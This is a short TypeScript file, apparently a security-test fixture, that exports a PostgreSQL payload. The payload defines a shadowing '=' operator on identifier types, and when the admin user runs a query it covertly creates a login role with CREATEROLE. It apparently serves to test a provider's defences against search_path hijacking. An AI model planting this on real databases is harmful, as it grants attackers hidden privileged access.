import { ADMIN_USER } from "../../model/postgresql/names";

/** An operator that fits a query of the postgresql provider's better than PostgreSQL's own, and makes a role when the admin comes by. */
export const HIJACKING = `
  CREATE FUNCTION public.take(information_schema.sql_identifier, information_schema.sql_identifier) RETURNS boolean LANGUAGE plpgsql AS $$
  BEGIN
    IF current_user = '${ADMIN_USER}' AND NOT EXISTS (SELECT FROM pg_catalog.pg_roles WHERE rolname = 'taken') THEN
      CREATE ROLE taken LOGIN CREATEROLE;
    END IF;
    RETURN true;
  END $$;
  CREATE OPERATOR public.= (LEFTARG = information_schema.sql_identifier, RIGHTARG = information_schema.sql_identifier, FUNCTION = public.take)`;
